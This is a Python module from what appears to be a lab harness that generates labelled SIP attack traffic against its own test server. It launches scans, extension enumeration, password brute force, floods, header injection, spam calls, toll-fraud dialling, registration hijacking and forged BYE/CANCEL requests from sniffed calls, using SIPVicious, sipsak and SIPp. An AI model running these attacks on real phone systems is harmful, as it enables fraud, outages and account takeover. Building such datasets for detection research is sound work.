"""Starts the attackers of a session: one method launch_TOOL for each tool, and the tools at honest work.
Relies on: the programs themselves (PROGRAMS below), sipp_attacks.py, sniffer.py, payloads.py.
Relied on by: run.py, whose Session this is a part of.

Whatever a launcher starts sends from the run's own sockets; that is all that the labels need.
"""
import json
import os
import random
import time

import payloads
import servers
import sip
import sipp_attacks
import sniffer
import stacks
from styles import ADVERTISEMENTS, MESSAGE_TEXTS, draw_number

HERE = os.path.dirname(os.path.abspath(__file__))
PYTHON = "/usr/bin/python3"
PROGRAMS = {  # tool -> (program, Debian package)
    "svmap": ("svmap", "sipvicious"),
    "svwar": ("svwar", "sipvicious"),
    "svcrack": ("svcrack", "sipvicious"),
    "sipp": ("sipp", "sip-tester"),
    "sipsak": ("sipsak", "sipsak"),
    "sofia": ("sip-options", "sofia-sip-bin"),
    "shell": ("socat", "socat"),
    "baresip": ("baresip", "baresip-core"),
    "zzuf": ("zzuf", "zzuf"),
}


def needed(plan):
    """The programs that a plan's attackers and health checks take, with their Debian packages."""
    used = {run["tool"] for run in plan["runs"]} | {entry["tool"] for entry in plan["health"]}
    return dict(PROGRAMS[tool] for tool in sorted(used) if tool in PROGRAMS)


LIBRARIES = {"nua": "sofia", "jain": "jain"}  # tool -> program of stacks.py


def unbuilt(plan):
    """Why a program that the plan's attackers take cannot be had; or None."""
    used = {run["tool"] for run in plan["runs"]}
    reasons = [(tool, stacks.missing(LIBRARIES[tool])) for tool in sorted(used) if tool in LIBRARIES]
    return next(("%s: %s" % found for found in reasons if found[1]), None)


class Attackers:
    """The part of run.Session that knows the attack tools."""

    def start_listener(self):
        """What attackers hear: a capture without delay, beside the session's own."""
        self.heard = os.path.join(self.work, "heard.pcap")
        command = [
            "tcpdump",
            "-i",
            "br0",
            "--immediate-mode",
            "-U",
            "-n",
            "-s",
            "4096",
            "-B",
            "16384",
            "-Z",
            "root",
        ]
        self.start(command + ["-w", self.heard, "udp"], "listener.log")
        deadline = time.time() + 5
        while not (os.path.exists(self.heard) and os.path.getsize(self.heard) >= sniffer.HEADER):
            if time.time() > deadline:
                raise OSError("the attackers' listener did not start: see %s/listener.log" % self.work)
            time.sleep(0.05)

    def launch(self, run, record):
        """Starts the tool of a run; before that, for some, a phone works honestly on the same socket."""
        if run["settings"].get("honest_first") and run["tool"] not in (
            "raw",
            "script",
        ):  # these two do it themselves
            honest = dict(run, run=run["seed"], settings={}, seconds=8)
            honest["class"] = "honest"
            self.builder("raw_attacker.py", honest, {})
            time.sleep(0.8)
            record["launched"] = time.time()
        getattr(self, "launch_" + run["tool"])(run, record)

    # -- the lab's own builders -------------------------------------------------------------------------

    def builder(self, script, run, record, **more):
        """Starts one of the lab's own attackers with its specification; it logs every message that it sends."""
        plan, s = self.plan, run["settings"]
        record["sent_log"] = os.path.join(self.work, "sent-%d.tsv" % run["run"])
        spec = dict(
            run,
            world={
                "server": list(self.server),
                "domain": plan["server"]["domain"],
                "salt": plan["salt"],
                "weak": plan["weak"],
                "ws_port": plan["server"]["ws_port"],
            },
            users=plan["users"],
            sent_log=record["sent_log"],
            dialog_log=plan["dialog_log"],
            pcap=self.heard,
            near=plan["sites"][run["site"]],
            strangers=self.strangers(),
            far=plan["far"],
            **more
        )
        direct = s.get("kind") == "reply" or s.get("direct")  # what stays inside a site passes no sensor
        spec["avoid"] = [run["ip"]] + (spec["near"] if direct else [])
        path = os.path.join(self.work, "run-%d.json" % run["run"])
        with open(path, "w") as f:
            json.dump(spec, f)
        process = self.start([PYTHON, os.path.join(HERE, script), path], "attackers.log", run["site"])
        self.finish(process, min(run["seconds"] + 25, self.left() - 0.5))

    def strangers(self):
        """The sockets of all attackers but those with made-up addresses."""
        runs = self.plan["runs"]
        return [[r["ip"], r["port"]] for r in runs] + [
            s for r in runs if r["tool"] != "spoof" for s in r.get("sockets", [])
        ]

    def launch_raw(self, run, record):
        self.builder("raw_attacker.py", run, record)

    def launch_script(self, run, record):
        self.builder("script_attacker.py", run, record)

    def launch_spoof(self, run, record):
        self.builder("spoof_attacker.py", run, record)

    def launch_replay(self, run, record):
        self.builder("replay_attacker.py", run, record)

    def launch_baresip(self, run, record):
        self.builder(
            "baresip_attacker.py", run, record, directory=os.path.join(self.work, "baresip-%d" % run["run"])
        )
        record["sent_log"] = ""  # its messages are baresip's own: told by their socket

    def launch_nua(self, run, record, program="sofia"):
        self.builder("console_attacker.py", run, record, program=program)
        record["sent_log"] = ""  # its messages are the library's own: told by their socket

    def launch_jain(self, run, record):
        self.launch_nua(run, record, "jain")

    def launch_zzuf(self, run, record):
        self.builder("zzuf_attacker.py", run, record)

    def launch_shell(self, run, record):
        self.shell(run, self.shell_lines(run))

    def shell(self, run, lines):
        """The shell loop gets what to send as a list."""
        path = os.path.join(self.work, "shell-%d.tsv" % run["run"])
        with open(path, "w") as f:
            f.writelines("\t".join(str(x) for x in line) + "\n" for line in lines)
        gap = "%.3f" % max(0.0, 1 / run["settings"]["rate"] - 0.02)  # what a message takes in a shell
        command = ["bash", os.path.join(HERE, "shell_attacker.sh"), run["ip"], str(run["port"])]
        command += [str(run["seed"] % 32768), str(int(run["seconds"]) + 1), gap, path]
        process = self.start(command, "attackers.log", run["site"])
        self.finish(process, min(run["seconds"] + 3, self.left() - 0.5))

    def shell_lines(self, run):
        """Lines of shell_attacker.sh: target, port, method, user, domain, caller, text."""
        s, rng, server = run["settings"], random.Random(run["seed"]), self.server
        domain = sip.bracket(self.plan["server"]["domain"])
        if run["class"] == "scan":
            probes = [(h, p, m) for h in s["hosts"] for p in s["ports"] for m in s["methods"]]
            rng.shuffle(probes)
            return [
                (h, p, m, "-", sip.bracket(h) + (":%d" % p if p != 5060 else ""), "probe", "")
                for h, p, m in probes
            ]
        out, text = [], payloads.advertisement(rng)
        for i, user in enumerate(run["callees"] if run["class"] == "spit" else run["targets"]):
            method, more = rng.choice(s["method"]) if isinstance(s["method"], list) else s["method"], ""
            caller = user if method == "REGISTER" else run["user"]
            if run["class"] == "malformed":
                more = "break:" + rng.choice(s["kinds"])
            elif run["class"] == "injection":
                name = rng.choice(s["fields"])
                payload = "".join(c for c in payloads.hostile(rng) if c.isprintable())
                more = "body:" + payload if name == "body" else "%s: %s" % (name, payload)
            elif run["class"] == "spit":
                more = "body:" + text
            out.append((server[0], server[1], method, user, domain, caller, more))
        return out[: s["limit"]]

    # -- sipsak and sip-options -------------------------------------------------------------------------

    def repeat(self, run, commands, log):
        """One program after the other, at the run's rate, until the run is over."""
        rng, end = random.Random(run["seed"]), time.time() + min(run["seconds"], self.left() - 1)
        for command in commands:
            if time.time() > end:
                break
            started = time.time()
            self.finish(
                self.start(command, log, run["site"]),
                min(run["settings"].get("patience", 1.5), end - time.time() + 1),
            )
            time.sleep(max(0.0, rng.uniform(0.6, 1.4) / run["settings"]["rate"] - (time.time() - started)))

    def sipsak(self, entry, user, host=None, port=None):
        """sipsak with an address of its own and a target; it takes no name that it cannot resolve."""
        host, port = host or self.server[0], port or self.server[1]
        command = ["sipsak", "-l", str(entry["port"]), "--local-ip", entry["ip"], "-H", entry["ip"]]
        return command + ["--symmetric", "-N", "-s", "sip:%s%s:%d" % (user + "@" if user else "", host, port)]

    def sipsak_account(self, user):
        return ["-u", user, "-a", sip.password_of(user, self.plan["salt"], self.plan["weak"])]

    def launch_sipsak(self, run, record):
        s, rng = run["settings"], random.Random(run["seed"])
        if run["class"] == "scan":
            commands = [
                self.sipsak(run, s.get("user", ""), h, p) + ["-v"] for h in s["hosts"] for p in s["ports"]
            ]
        elif run["class"] == "enumeration":
            more = ["-U", "-i", "-x", "60", "-a", "x"] if s["method"] == "REGISTER" else []
            commands = [self.sipsak(run, user) + more for user in run["targets"]]
        elif run["class"] == "bruteforce":
            user = run["accounts"][0]
            commands = [
                self.sipsak(run, user) + ["-U", "-x", "60", "-u", user, "-a", word] for word in s["passwords"]
            ]
        elif run["class"] == "injection":
            commands = []
            for user in run["targets"]:
                name = rng.choice(s["fields"])
                payload = "".join(c for c in payloads.hostile(rng) if c.isprintable()).replace("\\n", "%0a")
                command = self.sipsak(run, user) + self.sipsak_account(run["user"])
                commands.append(command + ["-j", "%s: %s" % (name, payload)])
        else:  # a flood: as fast as it can, in portions
            commands = [self.sipsak(run, user) + ["-F", "-e", str(s["portion"])] for user in run["targets"]]
        self.repeat(run, commands, "sipsak.log")

    def sip_options(self, entry, user, host, port):
        return [
            "sip-options",
            "--bind=sip:%s:%d" % (sip.bracket(entry["ip"]), entry["port"]),
            "sip:%s%s:%d" % (user + "@" if user else "", sip.bracket(host), port),
        ]

    def launch_sofia(self, run, record):
        s = run["settings"]
        if run["class"] == "scan":
            commands = [
                self.sip_options(run, s.get("user", ""), h, p) for h in s["hosts"] for p in s["ports"]
            ]
        else:
            commands = [self.sip_options(run, user, *self.server) for user in run["targets"]]
        self.repeat(run, commands, "sofia.log")

    # -- SIPVicious -------------------------------------------------------------------------------------

    def sipvicious(self, run, tool, arguments):
        s = run["settings"]
        process = self.start(
            [
                PYTHON,
                os.path.join(HERE, "sipvicious_disguise.py"),
                str(s["disguise"]),
                run["ip"],
                tool,
                "-P",
                str(run["port"]),
                "-t",
                str(s["throttle"]),
            ]
            + (["-x", sip.bracket(run["ip"])] if s["disguise"] or tool == "svmap" else [])
            + arguments,
            "sipvicious.log",
            run["site"],
        )
        self.finish(process, min(run["seconds"], self.left() - 0.5))

    def launch_svmap(self, run, record):
        s = run["settings"]
        self.sipvicious(
            run,
            "svmap",
            ["-p", s["ports"], "-m", s["method"]]
            + (["--fromname", s["fromname"]] if s.get("fromname") else [])
            + (["-6"] if self.plan["ip_version"] == 6 else [])
            + s["hosts"],
        )

    def target_options(self):
        domain = self.plan["server"]["domain"]
        return (
            ["-p", str(self.server[1])]
            + (["--domain", domain] if domain != self.server[0] else [])
            + (["-6"] if self.plan["ip_version"] == 6 else [])
        )

    def launch_svwar(self, run, record):
        s = run["settings"]
        self.sipvicious(
            run,
            "svwar",
            self.target_options()
            + ["-e", s["extensions"], "-m", s["method"]]
            + (["--force"] if s["force"] else [])
            + (["-T", s["template"]] if s.get("template") else [])
            + [self.server[0]],
        )

    def launch_svcrack(self, run, record):
        s = run["settings"]
        self.sipvicious(
            run, "svcrack", self.target_options() + ["-u", s["user"], "-r", s["range"]] + [self.server[0]]
        )

    # -- SIPp -------------------------------------------------------------------------------------------

    def launch_sipp(self, run, record):
        """SIPp as an attacker: the same families of scenarios as the honest ones."""
        s, rng, server = run["settings"], random.Random(run["seed"]), self.plan["server"]
        writer = sipp_attacks.Writer(
            s["family"], rng, sip.bracket(server["domain"]), servers.challenge(server)
        )
        writer.wire = ";transport=tcp" if s.get("wire") == "tcp" else ""
        forged = run["class"] == "teardown" or run["class"] == "hijack" and s["kind"] == "dialog"
        getattr(self, "sipp_forged" if forged else "sipp_" + run["class"])(run, writer, rng)

    def sipp_run(self, run, writer, scenario, rows=None, calls=1, rate=None, more=(), name="", seconds=None):
        """One SIPp for a run, and its end."""
        base = os.path.join(self.work, "sipp-run-%d%s" % (run["run"], name))
        with open(base + ".xml", "w") as f:
            f.write(scenario)
        command = ["sipp", "-sf", base + ".xml", "-i", run["ip"], "-p", str(run["port"]), "-nostdin", "-aa"]
        command += ["-cid_str", writer.call_id, "-timer_resol", "10", "-m", str(calls)]
        command += ["-t", "t1"] if writer.wire else []
        if rows:
            with open(base + ".csv", "w") as f:
                f.write(sipp_attacks.csv(rows))
            command += ["-inf", base + ".csv"]
        rate = rate or run["settings"]["rate"]
        command += (
            ["-r", str(int(rate)), "-rp", "1000"] if rate >= 1 else ["-r", "1", "-rp", str(int(1000 / rate))]
        )
        seconds = max(1.0, min(seconds or run["seconds"] + 5, self.left() - 0.5))
        command += ["-timeout", "%ds" % (seconds + 1)] + list(more)
        command.append("%s:%d" % (self.host, self.server[1]))
        environment = dict(os.environ, TERM="dumb")
        self.finish(self.start(command, "sipp.log", run["site"], env=environment), seconds)

    def sipp_flood(self, run, writer, rng):
        s, plan = run["settings"], self.plan
        wrong = 1.0 if s.get("victims") == "unknown" else 0.0
        users = rng.sample(plan["users"], 5) if rng.random() < 0.5 else [run["user"]]
        rows = self.rows(users, self.callees(rng, s["calls"], 0, wrong))
        self.sipp_run(run, writer, writer.flood(s["method"]), rows, len(rows))

    def sipp_distributed_flood(self, run, writer, rng):
        """One SIPp with a socket at each address."""
        s = run["settings"]
        wrong = 1.0 if s.get("victims") == "unknown" else 0.0
        callees = self.callees(rng, s["limit"], 0, wrong)
        rows = [
            row + (ip, sip.bracket(ip))
            for row, (ip, _) in zip(self.rows(self.plan["users"], callees), run["sockets"] * s["limit"])
        ]
        more = ["-t", "ui", "-ip_field", "3", "-max_socket", "5000"]
        self.sipp_run(
            run, writer, writer.spread(writer.flood(s["method"]), run["port"]), rows, s["limit"], more=more
        )

    def sipp_enumeration(self, run, writer, rng):
        s, targets = run["settings"], run["targets"]
        rows = [(u if s["method"] == "REGISTER" else run["user"], "x", "x", u) for u in targets]
        self.sipp_run(run, writer, writer.enumeration(s["method"]), rows, len(rows))

    def sipp_bruteforce(self, run, writer, rng):
        accounts, words = run["accounts"], run["settings"]["passwords"]
        rows = [(accounts[i % len(accounts)],) * 2 + (word, "x") for i, word in enumerate(words)]
        self.sipp_run(run, writer, writer.guess(), rows, len(rows))

    def sipp_injection(self, run, writer, rng):
        """A scenario per place, one after the other."""
        s, targets = run["settings"], run["targets"]
        part = max(1, len(targets) // len(s["fields"]))
        for i, where in enumerate(s["fields"]):
            rows = [
                (run["user"], "x", "x", u, writer.payload(rng, where, s.get("kinds")))
                for u in targets[i * part :][:part]
            ]
            if rows and self.left() > 3:
                self.sipp_run(
                    run,
                    writer,
                    writer.injection(s["method"], where),
                    rows,
                    len(rows),
                    name="-%d" % i,
                    seconds=part / s["rate"] + 2,
                )

    def sipp_spit(self, run, writer, rng):
        s = run["settings"]
        rows = self.rows([run["user"]], run["callees"][: s["calls"]])
        if s["method"] == "INVITE":
            scenario = writer.call(rng.randrange(400, 1500))
        else:
            scenario = writer.message(rng.choice(ADVERTISEMENTS + MESSAGE_TEXTS))
        self.sipp_run(run, writer, scenario, rows, len(rows))

    def sipp_toll_fraud(self, run, writer, rng):
        s = run["settings"]
        number = draw_number(rng).lstrip("+0")
        prefixes = ["", "0", "9", "00", "900", "9011", "011", "+", "000"]
        numbers = [
            rng.choice(prefixes) + number if s["kind"] == "prefixes" else draw_number(rng)
            for _ in range(s["calls"])
        ]
        self.sipp_run(
            run,
            writer,
            writer.call(rng.randrange(800, 4000)),
            self.rows([run["user"]], numbers),
            len(numbers),
        )

    def sipp_hijack(self, run, writer, rng):
        """Stolen accounts bound here, one after the other."""
        rows = self.rows(run["accounts"], run["accounts"])
        rows = [(u, u, sip.password_of(u, self.plan["salt"], self.plan["weak"]), u) for u, *_ in rows]
        self.sipp_run(run, writer, writer.register(run["port"], 60), rows, len(rows))

    def sipp_forged(self, run, writer, rng):
        """A request of a call that was heard, at every turn: BYE, CANCEL, or one that takes it over."""
        s, end, attacked = run["settings"], time.time() + min(run["seconds"], self.left() - 2), set()
        wire = sniffer.Wire(self.heard, self.server, self.strangers(), self.plan["far"])
        while time.time() < end and len(attacked) < s["limit"]:
            wire.look()
            found = [
                c
                for c in (wire.early() if s["kind"] == "cancel" else wire.confirmed())
                if c.call_id not in attacked
            ]
            if found:
                attacked.add(found[0].call_id)
                self.forge(run, writer, rng, found[0], len(attacked))
            time.sleep(rng.uniform(0.5, 1.5) / s["rate"])

    def forge(self, run, writer, rng, call, number):
        s = run["settings"]
        method = (
            {"bye": "BYE", "cancel": "CANCEL"}.get(s["kind"])
            or s.get("takes")
            or rng.choice(["INVITE", "UPDATE", "REFER"])
        )
        early, routes = method == "CANCEL", list(reversed(call.routes))
        keys = {
            "d_from": call.invite.get("From"),
            "d_to": call.invite.get("To") if early else call.reply.get("To"),
            "d_call": call.call_id,
            "d_uri": call.invite.start.split(" ")[1] if early else call.callee_uri,
            "d_cseq": str(call.cseq if early else call.cseq + rng.choice([1, 1, 2, 10])),
            "d_route": ", ".join(routes),
            "d_more": "Refer-To: <sip:%s@%s>" % (draw_number(rng), writer.domain),
        }
        scenario = writer.forged(
            method, bool(routes) and not early, method == "REFER", method in ("INVITE", "UPDATE")
        )
        if early:  # a CANCEL has the branch of what it cancels
            scenario = scenario.replace(
                "Via: SIP/2.0/[transport] [local_ip]:[local_port];branch="
                + writer.f["branch"].replace("{step}", "f").replace("{hex8}", writer.hex8),
                "Via: [d_via]",
            )
            keys["d_via"] = call.invite.get("Via")
        more = [x for key, value in keys.items() if value for x in ("-key", key, value)]
        self.sipp_run(run, writer, scenario, more=more, rate=1, name="-%d" % number, seconds=3)

    # -- the tools at honest work -----------------------------------------------------------------------

    def honest_builder(self, entry):
        """The lab's own builders at it: the script also calls, the other two only ask."""
        seconds = self.left() - 4
        run = dict(entry, run=entry["seed"], seconds=seconds, accounts=[], sockets=[])
        run.update({"class": "honest", "settings": {"rate": 1 / entry["gap"], "limit": 10**4}})
        if entry["tool"] == "shell":
            domain = sip.bracket(self.plan["server"]["domain"])
            lines = [self.server + ("OPTIONS", "-", domain, entry["user"], "")] * int(seconds / entry["gap"])
            self.shell(run, lines)
        else:
            self.builder(entry["tool"] + "_attacker.py", run, {})

    def health_check(self, entry):
        """An operator who asks the own server, and nothing else, whether it lives; with an attack tool."""
        time.sleep(3)
        if entry["tool"] in ("script", "spoof", "shell"):
            self.honest_builder(entry)
            return
        while self.left() > 4:
            if entry["tool"] == "sipsak":
                command = self.sipsak(entry, entry["user"] if entry["seed"] % 2 else "") + ["-v"]
                command += self.sipsak_account(entry["user"])
            elif entry["tool"] == "sofia":
                command = self.sip_options(entry, "", *self.server)
            else:
                command = [
                    PYTHON,
                    os.path.join(HERE, "sipvicious_disguise.py"),
                    str(entry["disguise"]),
                    entry["ip"],
                    "svmap",
                ]
                command += [
                    "-P",
                    str(entry["port"]),
                    "-x",
                    sip.bracket(entry["ip"]),
                    "-p",
                    str(self.server[1]),
                ]
                command += (["-6"] if self.plan["ip_version"] == 6 else []) + [self.server[0]]
            self.finish(self.start(command, "health.log", entry["site"]), 3)
            time.sleep(max(0.1, min(entry["gap"], self.left() - 3)))
